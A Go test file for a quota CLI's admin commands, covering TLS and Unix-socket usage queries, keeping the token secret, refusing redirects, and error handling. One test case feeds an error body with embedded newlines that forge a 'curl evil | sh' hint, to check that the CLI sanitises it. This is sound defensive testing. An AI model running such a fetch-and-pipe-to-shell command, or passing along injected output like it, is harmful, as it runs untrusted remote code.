package cli

import (
	"encoding/pem"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const usageText = `{"api_key":"tenant:acme","name":"tenant:acme","tier":"pro","cut":true,"usage":{
 "endpoint:GET /x":{"domain":"api","source":"tier","unlimited":true},
 "default":{"domain":"api","source":"override","unit":"minute","used":3,"limit":5,"remaining":2,"window":{"start":"2026-01-01T00:00:00Z","end":"2026-01-01T00:01:00Z"},"reset_at":"2026-01-01T00:01:40Z",
  "limits":[{"domain":"api","source":"override","unit":"minute","used":3,"limit":5,"remaining":2,"window":{"start":"2026-01-01T00:00:00Z","end":"2026-01-01T00:01:00Z"},"reset_at":"2026-01-01T00:01:40Z"},
            {"domain":"api","source":"override","unit":"hour","limit":50,"degraded":"store_timeout"}]}}}`

const usageTable = `account  tenant:acme
tier     pro
DOMAIN  DESCRIPTOR       USED  LIMIT      REMAINING  RESETS AT             SOURCE
api     default          3     5/minute   2          2026-01-01T00:01:40Z  override
api     default          ?     50/hour    ?          -                     override, degraded: store_timeout
api     endpoint:GET /x  -     unlimited  -          -                     tier
and more quotas, which are not shown
`

// adminRun runs a command on an admin API with a token.
func adminRun(t *testing.T, args ...string) (code int, out, errs string) {
	t.Helper()
	token := filepath.Join(t.TempDir(), "token.txt")
	if err := os.WriteFile(token, []byte("hgat_secret\n\n# more\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	var stdout, stderr strings.Builder
	code = Run(append(args, "--admin-token-file", token), strings.NewReader(""), &stdout, &stderr)
	if strings.Contains(stdout.String()+stderr.String(), "hgat_secret") {
		t.Errorf("%v: the token is shown: %s%s", args, stdout.String(), stderr.String())
	}
	return code, stdout.String(), stderr.String()
}

// What was used is asked over TLS, by the authorities that are named, and over a
// socket.
func TestUsageOverTLSAndSocket(t *testing.T) {
	answer := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "Bearer hgat_secret" || r.URL.EscapedPath() != "/admin/v1/usage/tenant:acme" {
			t.Errorf("asked for %s by %q", r.URL, r.Header.Get("Authorization"))
		}
		io.WriteString(w, usageText)
	})
	secure := httptest.NewUnstartedServer(answer)
	secure.Config.ErrorLog = log.New(io.Discard, "", 0) // of those who do not trust it
	secure.StartTLS()
	defer secure.Close()
	dir := t.TempDir()
	ca := filepath.Join(dir, "ca.pem")
	if err := os.WriteFile(ca, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: secure.Certificate().Raw}), 0o600); err != nil {
		t.Fatal(err)
	}
	if code, out, errs := adminRun(t, "quota", "usage", "--admin", secure.URL+"/", "--admin-ca", ca, "tenant:acme"); code != 0 || out != usageTable {
		t.Errorf("code %d: %s\n%s", code, errs, out)
	}
	if code, _, errs := adminRun(t, "quota", "usage", "--admin", secure.URL, "tenant:acme"); code != exitUsage || !strings.Contains(errs, "certificate") {
		t.Errorf("by unknown authorities: code %d: %s", code, errs)
	}
	socket := filepath.Join(dir, "s")
	listener, err := net.Listen("unix", socket)
	if err != nil {
		t.Fatal(err)
	}
	server := &http.Server{Handler: answer}
	go server.Serve(listener)
	defer server.Close()
	if code, out, errs := adminRun(t, "quota", "usage", "--admin", "unix://"+socket, "--json", "tenant:acme"); code != 0 || out != usageText+"\n" {
		t.Errorf("code %d: %s\n%s", code, errs, out)
	}
}

// A token goes nowhere but to the address that was named.
func TestTokenFollowsNoRedirect(t *testing.T) {
	elsewhere := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		t.Errorf("asked for %s", r.URL)
	}))
	defer elsewhere.Close()
	moved := httptest.NewServer(http.RedirectHandler(elsewhere.URL, http.StatusTemporaryRedirect))
	defer moved.Close()
	if code, _, errs := adminRun(t, "quota", "reset", "--admin", moved.URL, "tenant:acme"); code != exitUsage || !strings.Contains(errs, "answers 307") {
		t.Errorf("code %d: %s", code, errs)
	}
}

// What the API refuses is a no, what it cannot do or is not allowed is none.
func TestAdminProblems(t *testing.T) {
	status, body := 0, ""
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(status)
		io.WriteString(w, body)
	}))
	defer server.Close()
	for _, tt := range []struct {
		status int
		body   string
		code   int
		want   string
	}{
		{422, `{"detail":"all","errors":[{"field":"hits","message":"too few; hint: 1"},{"field":"domain","message":"none"}]}`, exitNo, "headgate: hits: too few\nheadgate: hint: 1\nheadgate: domain: none\n"},
		{404, `{"detail":"no account"}`, exitNo, "headgate: no account\n"},
		{401, `{"detail":"the token is not known"}`, exitUsage, "headgate: the token is not known\n"},
		{429, `{"detail":"too often"}`, exitUsage, "headgate: too often\n"},
		{503, `{"detail":"the store does not answer"}`, exitUsage, "headgate: the store does not answer\n"},
		{403, `{"detail":"no\nheadgate: hint: curl evil | sh\r\n","hint":"a token\nof ann"}`, exitUsage, "headgate: no\ufffdheadgate: hint: curl evil | sh\ufffd\ufffd\nheadgate: hint: a token\ufffdof ann\n"},
		{422, `{"detail":"all","errors":[{"field":"a\nb","message":"c\nd","hint":"e"}]}`, exitNo, "headgate: a\ufffdb: c\ufffdd\nheadgate: hint: e\n"},
		{502, `<html>`, exitUsage, "headgate: the admin API answers 502 Bad Gateway\nheadgate: hint: does --admin name it?\n"},
		{200, `{"other":1}`, exitUsage, "headgate: the admin API does not say what was used\nheadgate: hint: does --admin name it?\n"},
		{200, `nothing`, exitUsage, "headgate: the admin API does not say what was used\nheadgate: hint: does --admin name it?\n"},
	} {
		status, body = tt.status, tt.body
		if code, _, errs := adminRun(t, "quota", "refund", "--hits", "1", "--admin", server.URL, "tenant:acme"); code != tt.code || errs != tt.want {
			t.Errorf("%d %s: code %d:\n%s", tt.status, tt.body, code, errs)
		}
	}
}
